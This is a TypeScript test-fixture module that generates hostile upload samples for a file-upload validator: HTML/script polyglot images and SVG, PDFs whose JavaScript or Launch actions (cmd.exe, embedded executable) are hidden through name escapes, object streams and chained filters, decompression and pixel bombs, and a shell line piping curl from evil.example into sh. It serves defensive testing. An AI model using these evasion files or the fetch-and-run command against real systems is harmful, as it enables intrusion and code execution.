/**
 * Files for the upload tests, made the way the hostile ones are made in the wild: a photo with
 * EXIF and GPS, images with HTML appended or hidden in a comment, a script named .jpg, PDFs
 * with JavaScript spelled plainly, hex-escaped and inside a compressed object stream, and a
 * picture that declares more pixels than any receipt needs.
 */
import zlib from 'node:zlib';
import sharp from 'sharp';

/** A camera-like JPEG: noisy pixels, EXIF with a maker, a copyright owner, GPS position and orientation. */
export async function photoWithExif(width = 1600, height = 1200): Promise<Buffer> {
  const noise = Buffer.alloc(width * height * 3);
  for (let i = 0; i < noise.length; i++) noise[i] = (i * 7919 + (i >> 5) * 104729) % 251;
  return (
    sharp(noise, { raw: { width, height, channels: 3 } })
      .jpeg({ quality: 90 })
      // Orientation 6: the camera was turned; the pixels are stored sideways.
      .withMetadata({ orientation: 6 })
      .withExifMerge({
        IFD0: { Make: 'TestCam', Model: 'Receipt X1', Copyright: 'owner-secret-name' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 2980/100', GPSLongitudeRef: 'E', GPSLongitude: '2/1 17/1 4000/100' },
      })
      .toBuffer()
  );
}

/**
 * A photo as a camera writes it, never shrunk by a browser: about 7 MiB of JPEG (noise, so it does
 * not compress), above the file ceiling and, sealed, above the upload call's body limit.
 */
export async function rawCameraPhoto(): Promise<Buffer> {
  const noise = { type: 'gaussian' as const, mean: 128, sigma: 80 };
  return sharp({ create: { width: 1800, height: 1400, channels: 3, background: '#808080', noise } })
    .jpeg({ quality: 100, chromaSubsampling: '4:4:4' })
    .toBuffer();
}

export async function plainPng(width = 400, height = 300, color = '#3366cc'): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: color } })
    .png()
    .toBuffer();
}

export const htmlPayload = '<html><body><script>alert(document.cookie)</script></body></html>';

/** A valid PNG with an HTML page after its end: browsers that sniff would run it. */
export async function pngHtmlPolyglot(): Promise<Buffer> {
  return Buffer.concat([await plainPng(64, 64, '#ff0000'), Buffer.from(htmlPayload)]);
}

/** A valid JPEG whose comment segment (COM, 0xFFFE) carries an HTML page. */
export async function jpegWithHtmlComment(): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#00ff00' } })
    .jpeg()
    .toBuffer();
  const text = Buffer.from(htmlPayload);
  const segment = Buffer.concat([Buffer.from([0xff, 0xfe, (text.length + 2) >> 8, (text.length + 2) & 0xff]), text]);
  // Right after the start-of-image marker.
  return Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);
}

/** A white picture that declares 64 megapixels yet compresses to a few hundred kilobytes. */
export async function pixelBomb(): Promise<Buffer> {
  return sharp({ create: { width: 8000, height: 8000, channels: 3, background: '#ffffff' } })
    .png({ compressionLevel: 9 })
    .toBuffer();
}

function pdf(objects: string[], trailerExtra = '', header = '%PDF-1.7\n', root = 1): Buffer {
  let body = header;
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root ${root} 0 R ${trailerExtra}>>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

const page = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>'];

export function cleanPdf(): Buffer {
  return pdf(['<< /Type /Catalog /Pages 2 0 R >>', ...page]);
}

export function pdfWithJavaScript(): Buffer {
  return pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', ...page, '<< /S /JavaScript /JS (app.alert\\(1\\)) >>']);
}

/** The same action with its names spelled with #xx escapes, which PDF readers decode. */
export function pdfWithEscapedJavaScript(): Buffer {
  return pdf(['<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>', ...page, '<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>']);
}

/** The action dictionary inside a Flate-compressed object stream, invisible to a plain text search. */
export function pdfWithHiddenJavaScript(): Buffer {
  const hidden = zlib.deflateSync(Buffer.from('4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>'));
  const stream = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${hidden.length} >>\nstream\n${hidden.toString('latin1')}\nendstream`;
  return pdf(['<< /Type /Catalog /Pages 2 0 R >>', ...page, stream]);
}

/** A stream object: its dictionary entries, its bytes (latin1) and, optionally, its filters. */
function stream(entries: string, bytes: Buffer | string): string {
  const data = typeof bytes === 'string' ? bytes : bytes.toString('latin1');
  return `<< ${entries} /Length ${Buffer.byteLength(data, 'latin1')} >>\nstream\n${data}\nendstream`;
}

/** A Flate object stream holding `objects` (numbered from `first`), as PDF 1.5 writers make them. */
function objectStream(first: number, objects: string[], encode: (raw: Buffer) => { filter: string; bytes: Buffer } = flate): string {
  let offsets = '';
  let body = '';
  objects.forEach((o, i) => {
    offsets += `${first + i} ${body.length} `;
    body += `${o}\n`;
  });
  const { filter, bytes } = encode(Buffer.from(offsets + body, 'latin1'));
  return stream(`/Type /ObjStm /N ${objects.length} /First ${offsets.length} /Filter ${filter}`, bytes);
}

function flate(raw: Buffer) {
  return { filter: '/FlateDecode', bytes: zlib.deflateSync(raw) };
}

/** ASCIIHex over Flate: the filters a reader undoes in order, hex first. */
function hexOverFlate(raw: Buffer) {
  return { filter: '[/ASCIIHexDecode /FlateDecode]', bytes: Buffer.from(`${zlib.deflateSync(raw).toString('hex')}>`, 'latin1') };
}

const drawn = 'BT /F1 18 Tf 20 150 Td (Transfer 50.00 USD) Tj ET';
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** A page that draws text: its content stream is object 4, its font object 5. */
const textPage = [
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
  stream('', drawn),
  font,
];

/**
 * The probe's PDFs: each makes a reader act when the document or its page is opened, and each was
 * accepted by a search of the file's text and its single-Flate streams.
 */
export const actingPdfs: Record<string, () => Buffer> = {
  /** JavaScript run when the document opens. */
  openActionJavaScript: () => pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>', ...textPage, '<< /S /JavaScript /JS (app.alert\\(1\\)) >>']),
  /** A program started when the document opens. */
  launchCmd: () =>
    pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>', ...textPage, '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> /F (cmd.exe) >>']),
  /** JavaScript run when the page opens (the page's additional actions). */
  pageAdditionalAction: () =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /AA << /O 6 0 R >> >>',
      stream('', drawn),
      font,
      '<< /S /JavaScript /JS (app.launchURL\\("http://evil.example"\\)) >>',
    ]),
  /** An executable attached in the document's name tree, and document-level JavaScript beside it. */
  embeddedFiles: () =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> /JavaScript << /Names [(init) 8 0 R] >> >> >>',
      ...textPage,
      '<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 7 0 R >> >>',
      stream('/Type /EmbeddedFile /Subtype /application#2Foctet-stream', 'MZ\x90\x00 not really a program'),
      '<< /S /JavaScript /JS (this.exportDataObject\\({cName: "invoice.exe", nLaunch: 2}\\)) >>',
    ]),
  /** Annotations on the page: a link to a site and a widget whose action is JavaScript. */
  annotationActions: () =>
    pdf([
      '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [7 0 R] >> >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /Annots [6 0 R 7 0 R] >>',
      stream('', drawn),
      font,
      '<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI (http://evil.example/steal) >> >>',
      '<< /Type /Annot /Subtype /Widget /FT /Btn /T (ok) /Rect [0 0 50 50] /A << /S /JavaScript /JS (app.alert\\(2\\)) >> >>',
    ]),
  /**
   * The catalog and its action inside an object stream that comes right after another stream:
   * the pattern that found a stream's start also matched inside the first one's `endstream`, so
   * the second stream was never inflated and nothing in the file's text names an action.
   */
  actionInSecondStream: () =>
    pdf(
      [
        stream('', drawn),
        objectStream(4, [
          '<< /Type /Catalog /Pages 5 0 R /OpenAction 7 0 R >>',
          '<< /Type /Pages /Kids [6 0 R] /Count 1 >>',
          '<< /Type /Page /Parent 5 0 R /MediaBox [0 0 200 200] /Resources << /Font << /F1 8 0 R >> >> /Contents 1 0 R >>',
        ]),
        objectStream(7, ['<< /S /JavaScript /JS (app.alert\\(3\\)) >>', font]),
      ],
      '',
      undefined,
      4,
    ),
  /** The catalog and its action in an object stream behind two filters, ASCIIHex then Flate. */
  actionBehindChainedFilters: () =>
    pdf(
      [
        stream('', drawn),
        objectStream(
          3,
          [
            '<< /Type /Catalog /Pages 4 0 R /OpenAction 6 0 R >>',
            '<< /Type /Pages /Kids [5 0 R] /Count 1 >>',
            '<< /Type /Page /Parent 4 0 R /MediaBox [0 0 200 200] /Resources << /Font << /F1 7 0 R >> >> /Contents 1 0 R >>',
            '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc.exe) >> >>',
            font,
          ],
          hexOverFlate,
        ),
      ],
      '',
      undefined,
      3,
    ),
};

/** A PDF carrying an HTML image whose error handler runs script, in a comment and in its text. */
export function pdfMarkupPolyglot(): Buffer {
  const markup = '<img src=x onerror=alert(1)>';
  return pdf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
      stream('', `BT /F1 12 Tf 10 100 Td (${markup}) Tj ET`),
      font,
    ],
    '',
    `%PDF-1.7\n%${markup}\n`,
  );
}

/** A statement of `pages` pages, each drawing its number with a standard font. */
export function textPdf(pages: number): Buffer {
  const kids = Array.from({ length: pages }, (_, i) => `${3 + i * 2} 0 R`).join(' ');
  const objects = ['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`];
  for (let i = 0; i < pages; i++) {
    objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 ${3 + pages * 2} 0 R >> >> /Contents ${4 + i * 2} 0 R >>`);
    objects.push(stream('/Filter /FlateDecode', zlib.deflateSync(Buffer.from(`BT /F1 18 Tf 50 780 Td (Statement page ${i + 1}) Tj ET`))));
  }
  objects.push(font);
  return pdf(objects);
}

/** Many small pages in one file: far more than any receipt, under the size ceiling. */
export function pageBombPdf(pages: number): Buffer {
  const kids = Array.from({ length: pages }, (_, i) => `${3 + i} 0 R`).join(' ');
  const objects = ['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`];
  for (let i = 0; i < pages; i++) objects.push('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>');
  return pdf(objects);
}

/** A page whose content stream inflates to 256 MiB of spaces from a few hundred kilobytes. */
export function decompressionBombPdf(): Buffer {
  const bomb = zlib.deflateSync(Buffer.alloc(256 * 1024 * 1024, 0x20), { level: 9 });
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>',
    stream('/Filter /FlateDecode', bomb),
  ]);
}

/** A document encrypted with the standard handler (RC4, empty user password): its streams cannot be read as they are. */
export function encryptedPdf(): Buffer {
  return pdf(
    ['<< /Type /Catalog /Pages 2 0 R >>', ...page, `<< /Filter /Standard /V 1 /R 2 /O <${'28bf4e5e4e758a41'.repeat(4)}> /U <${'00'.repeat(32)}> /P -44 >>`],
    `/Encrypt 4 0 R /ID [<${'01'.repeat(16)}> <${'01'.repeat(16)}>] `,
  );
}

export const shellScript = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
export const svgImage = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
